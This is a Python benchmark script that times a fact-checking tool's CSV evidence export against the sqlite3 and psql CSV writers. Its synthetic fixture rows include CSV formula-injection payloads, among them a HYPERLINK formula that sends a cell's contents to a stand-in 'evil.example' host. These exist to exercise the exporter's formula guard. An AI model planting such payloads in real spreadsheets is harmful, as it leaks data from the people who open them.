"""Print how fast `factcheck export evidence` streams, against the databases' own CSV writers.

Builds a database of N evidence rows (bulk inserts: executemany on SQLite, COPY on PostgreSQL)
with Chinese text, formula-like cells, commas, quotes, newlines and negative figures, then
exports the same rows (the query factcheck runs, compiled to SQL, without the formula guard, so
the guard's cost counts against factcheck) with:

    factcheck   the installed CLI, formula guard on, BOM on (a child process: time + peak RSS)
    sqlite3     the `sqlite3 -csv -header` command-line shell
    psql        `COPY (...) TO STDOUT WITH CSV HEADER` through psql

Targets: factcheck <= 3x the sqlite3 shell's time, peak RSS < 100 MB.

    python benchmarks/export.py [--rows 1000000] [--repeat 3] [--backends sqlite,postgresql]
"""

from __future__ import annotations

import argparse
import csv
import os
import shutil
import statistics
import subprocess
import sys
import tempfile
import time
import uuid
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import psycopg
from sqlalchemy.dialects import postgresql, sqlite

from factcheck.editorial.export import Filters, evidence_statement
from factcheck.storage import db

PG_DSN = os.environ.get("FACTCHECK_BENCH_PG", "postgresql://postgres@127.0.0.1:5432/test")
CLAIMS, SOURCES = 100, 10  # evidence is unique per (run, claim, source, role)
FACTCHECK = str(Path(sys.executable).parent / "factcheck")
TIME = "/usr/bin/time"  # GNU time: -f %M prints the peak RSS in KB
START = datetime(2025, 1, 1, tzinfo=UTC)
RAW = [
    "4050 亿个参数",
    "-50%",
    '=HYPERLINK("http://evil.example/?x="&A1,"405B")',
    "@SUM(A1:A9)",
    "+1 866 555 0100",
    'about $0.50, or "half"',
    "每百万个输入词元的价格为零点五美元",
]
EXCERPT = [
    "我们发布了三个模型……4050 亿、700 亿和 80 亿个参数的模型。",
    "=1+1",
    "Llama 3.1 405B, 70B, and 8B: open weights,\nwith a second line",
    "\t-tab first",
    "plain English text of a typical excerpt around the figure that was found",
]
VALUES = ["405000000000", "-0.5", "0.0000035", None, "70000000000", "-12"]


def evidence_rows(count: int) -> Iterator[tuple[object, ...]]:
    per_run = CLAIMS * SOURCES
    for i in range(count):
        run, rest = divmod(i, per_run)
        claim, source = divmod(rest, SOURCES)
        failed = i % 50 == 49
        yield (
            run + 1,
            claim + 1,
            source + 1,
            "value",
            "regex",
            r"(?P<value>\d+B)",
            START + timedelta(seconds=i),
            None if failed else 200,
            None if failed else RAW[i % len(RAW)],
            None if failed else VALUES[i % len(VALUES)],
            None if failed else "parameters",
            None if failed else EXCERPT[i % len(EXCERPT)],
            "[]",
            "none" if failed else "supports",
            False,
            "timeout" if failed else None,
            "-read timed out" if failed else None,
        )


COLUMNS = (
    "run_id, claim_id, source_id, role, rule_kind, rule, fetched_at, http_status, raw, value,"
    " unit, excerpt, hits, stance, reused, error_code, error_message"
)


def build(url: str, rows: int, backend: str) -> float:
    started = time.perf_counter()
    engine = db.make_engine(url, must_exist=False)
    db.upgrade(engine)
    runs = -(-rows // (CLAIMS * SOURCES))
    raw = engine.raw_connection()
    try:
        cur = raw.cursor()
        mark = "?" if backend == "sqlite" else "%s"
        now = START
        cur.executemany(
            f"INSERT INTO run (trigger, status, started_at, claims_count, sources_count,"
            f" errors_count, changes_count, note) VALUES ('manual', 'succeeded', {mark}, 0, 0,"
            f" 0, 0, '')",
            [(now,) for _ in range(runs)],
        )
        cur.executemany(
            f"INSERT INTO source (key, url, format, title, publisher, recheck_hours,"
            f" created_at, updated_at) VALUES ({mark}, {mark}, 'text', '', '', 24, {mark}, {mark})",
            [(f"src-{i}", f"https://example.org/{i}", now, now) for i in range(SOURCES)],
        )
        cur.executemany(
            f"INSERT INTO claim (key, statement, language, statement_en, speaker, subject,"
            f" property, kind, comparison, status, created_at, updated_at) VALUES ({mark},"
            f" {mark}, 'zh', '', '', '', '', 'quantity', 'approx', 'active', {mark}, {mark})",
            [
                (f"claim-{i}", "这是我们首次发布 4050 亿个参数的模型", now, now)
                for i in range(CLAIMS)
            ],
        )
        if backend == "sqlite":
            stamp = "%Y-%m-%d %H:%M:%S.%f"
            cur.executemany(
                f"INSERT INTO evidence ({COLUMNS}) VALUES ({', '.join('?' * 17)})",
                ((*r[:6], r[6].strftime(stamp), *r[7:]) for r in evidence_rows(rows)),  # type: ignore[attr-defined]
            )
        else:
            with cur.copy(f"COPY evidence ({COLUMNS}) FROM STDIN") as copy:  # type: ignore[attr-defined]
                for row in evidence_rows(rows):
                    copy.write_row(row)
        raw.commit()
    finally:
        raw.close()
        engine.dispose()
    return time.perf_counter() - started


def timed(command: list[str], out: Path, env: dict[str, str] | None = None) -> tuple[float, float]:
    """Seconds and peak RSS (MB) of one child writing `out`, measured by /usr/bin/time (a
    small parent, so the RSS is the exporter's own, not this Python's pages copied by fork)."""
    report = out.with_suffix(".time")
    with out.open("wb") as handle:
        started = time.perf_counter()
        done = subprocess.run(
            [TIME, "-f", "%M", "-o", str(report), *command],
            stdout=handle,
            stderr=subprocess.PIPE,
            env=env,
            check=False,
        )
        elapsed = time.perf_counter() - started
    if done.returncode != 0:
        raise SystemExit(f"{command[0]} failed: {done.stderr.decode(errors='replace')}")
    return elapsed, int(report.read_text().split()[-1]) / 1024


def records(path: Path) -> int:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return sum(1 for _ in csv.reader(handle)) - 1


def measure(
    name: str, command: list[str], out: Path, repeat: int, **kw: object
) -> tuple[float, float]:
    runs = [timed(command, out, **kw) for _ in range(repeat)]  # type: ignore[arg-type]
    seconds = statistics.median(r[0] for r in runs)
    rss = max(r[1] for r in runs)
    size = out.stat().st_size / 1e6
    print(f"  {name:<36} median {seconds:7.2f} s   peak RSS {rss:6.1f} MB   ({size:.0f} MB)")
    return seconds, rss


def bench_sqlite(rows: int, repeat: int, work: Path) -> None:
    path = work / "bench.db"
    url = f"sqlite:///{path}"
    print(f"SQLite: built {rows:,} evidence rows in {build(url, rows, 'sqlite'):.1f} s")
    query = evidence_statement(dialect="sqlite", filters=Filters(), claim_ids=None, guard=False)
    sql = str(query.compile(dialect=sqlite.dialect(), compile_kwargs={"literal_binds": True}))
    startup(url, work, repeat)
    ours, rss = measure(
        "factcheck export evidence",
        [FACTCHECK, "--db", url, "export", "evidence"],
        work / "f.csv",
        repeat,
    )
    shell, _ = measure(
        "sqlite3 -csv -header (same rows)",
        ["sqlite3", "-csv", "-header", str(path), sql + ";"],
        work / "s.csv",
        repeat,
    )
    check(work / "f.csv", work / "s.csv", rows)
    verdict(ours, shell, rss, "sqlite3 shell")


def bench_postgresql(rows: int, repeat: int, work: Path) -> None:
    schema = f"bench_{uuid.uuid4().hex[:8]}"
    with psycopg.connect(PG_DSN, autocommit=True) as conn:
        conn.execute(f'CREATE SCHEMA "{schema}"')
    try:
        url = f"{PG_DSN}?options=-csearch_path%3D{schema}"
        print(f"PostgreSQL: built {rows:,} evidence rows in {build(url, rows, 'postgresql'):.1f} s")
        query = evidence_statement(
            dialect="postgresql", filters=Filters(), claim_ids=None, guard=False
        )
        sql = str(
            query.compile(dialect=postgresql.dialect(), compile_kwargs={"literal_binds": True})
        )
        startup(url, work, repeat)
        ours, rss = measure(
            "factcheck export evidence",
            [FACTCHECK, "--db", url, "export", "evidence"],
            work / "f.csv",
            repeat,
        )
        env = {**os.environ, "PGOPTIONS": f"-csearch_path={schema}"}
        copy = ["psql", "-X", "-q", "-d", PG_DSN, "-c", f"COPY ({sql}) TO STDOUT WITH CSV HEADER"]
        server, _ = measure(
            "psql COPY ... TO STDOUT WITH CSV", copy, work / "p.csv", repeat, env=env
        )
        check(work / "f.csv", work / "p.csv", rows)
        verdict(ours, server, rss, "COPY")
    finally:
        with psycopg.connect(PG_DSN, autocommit=True) as conn:
            conn.execute(f'DROP SCHEMA "{schema}" CASCADE')


def startup(url: str, work: Path, repeat: int) -> None:
    """The same command with no rows to write: Python and import time, the fixed cost."""
    command = [FACTCHECK, "--db", url, "export", "evidence", "--since", "2999-01-01"]
    measure("factcheck, 0 rows (start-up only)", command, work / "z.csv", repeat)


def check(ours: Path, theirs: Path, rows: int) -> None:
    counted = (records(ours), records(theirs))
    if counted != (rows, rows):
        raise SystemExit(f"row counts differ: factcheck {counted[0]}, reference {counted[1]}")


def verdict(ours: float, reference: float, rss: float, name: str) -> None:
    ratio = ours / reference if reference else float("inf")
    time_ok = "meets" if ratio <= 3 else "misses"
    rss_ok = "meets" if rss < 100 else "misses"
    print(
        f"  => {ratio:.2f}x the {name} ({time_ok} <= 3x); peak RSS {rss:.0f} MB ({rss_ok} < 100 MB)"
    )


def main() -> None:
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument("--rows", type=int, default=1_000_000, help="evidence rows to build")
    parser.add_argument("--repeat", type=int, default=3, help="runs per exporter (median)")
    parser.add_argument("--backends", default="sqlite,postgresql", help="sqlite,postgresql")
    args = parser.parse_args()
    work = Path(tempfile.mkdtemp(prefix="factcheck-bench-"))
    try:
        for backend in args.backends.split(","):
            if backend == "sqlite":
                if shutil.which("sqlite3") is None:
                    print("SQLite: skipped, the sqlite3 shell is not installed")
                    continue
                bench_sqlite(args.rows, args.repeat, work)
            elif backend == "postgresql":
                if shutil.which("psql") is None:
                    print("PostgreSQL: skipped, psql is not installed")
                    continue
                bench_postgresql(args.rows, args.repeat, work)
    finally:
        shutil.rmtree(work, ignore_errors=True)


if __name__ == "__main__":
    main()
